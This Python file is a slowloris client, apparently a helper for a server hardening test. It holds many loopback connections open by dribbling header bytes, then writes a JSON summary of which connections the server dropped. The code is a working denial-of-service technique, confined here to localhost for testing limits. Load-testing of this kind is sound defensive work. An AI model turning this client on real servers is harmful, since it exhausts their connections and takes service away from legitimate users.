#!/usr/bin/env python3
"""A slowloris client for tests/test_serve_hostile.sh.

Opens N connections to HOST:PORT, spread over source addresses 127.0.0.B..,
sends a request line and then one header byte every INTERVAL seconds, for
at most DURATION seconds. Writes a JSON summary to OUT:
  opened        connections the server accepted and kept for 1 s
  dropped_early connections it closed within 1 s (over a connection limit)
  closed        connections it closed later, with "close_after" (seconds
                since each was opened, sorted)
  alive_end     connections still open at the end
The file OUT.ready appears once every connection has been tried and the
1 s check is done (the attack is then under way).

usage: slowloris.py PORT N SOURCES FIRST_SOURCE INTERVAL DURATION OUT
"""
import json
import select
import socket
import sys
import time


def main():
    port, n, sources, first = (int(a) for a in sys.argv[1:5])
    interval, duration, out = float(sys.argv[5]), float(sys.argv[6]), sys.argv[7]
    t0 = time.monotonic()
    conns = []  # [sock, opened_at, closed_at or None]
    for i in range(n):
        src = "127.0.0.%d" % (first + i % sources)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.bind((src, 0))
            s.connect(("127.0.0.1", port))
            s.setblocking(False)
            s.send(b"POST /v1/completions HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n" % port)
            conns.append([s, time.monotonic(), None])
        except OSError:
            s.close()
            conns.append([None, time.monotonic(), time.monotonic()])

    def poll_closed():
        now = time.monotonic()
        live = {c[0].fileno(): c for c in conns if c[2] is None}
        p = select.poll()
        for fd in live:
            p.register(fd, select.POLLIN)
        for fd, _ in p.poll(0):
            c = live[fd]
            try:
                data = c[0].recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if not data:  # EOF or reset: the server closed it
                c[2] = now
                c[0].close()

    time.sleep(1.0)
    poll_closed()
    early = sum(1 for c in conns if c[2] is not None)
    open(out + ".ready", "w").close()
    k = 0
    while time.monotonic() - t0 < duration and any(c[2] is None for c in conns):
        time.sleep(min(interval, 0.25))
        poll_closed()
        if time.monotonic() - t0 >= (k + 1) * interval:
            k += 1
            for c in conns:
                if c[2] is None:
                    try:
                        c[0].send(b"X-a: b\r\n"[k % 8:k % 8 + 1])
                    except OSError:
                        c[2] = time.monotonic()
                        c[0].close()
    poll_closed()
    closed_later = sorted(round(c[2] - c[1], 2) for c in conns if c[2] is not None and c[2] - c[1] > 1.0)
    alive = sum(1 for c in conns if c[2] is None)
    for c in conns:
        if c[2] is None:
            c[0].close()
    with open(out, "w") as f:
        json.dump({"tried": n, "opened": n - early, "dropped_early": early, "closed": len(closed_later),
                   "close_after": closed_later, "alive_end": alive}, f)


if __name__ == "__main__":
    main()
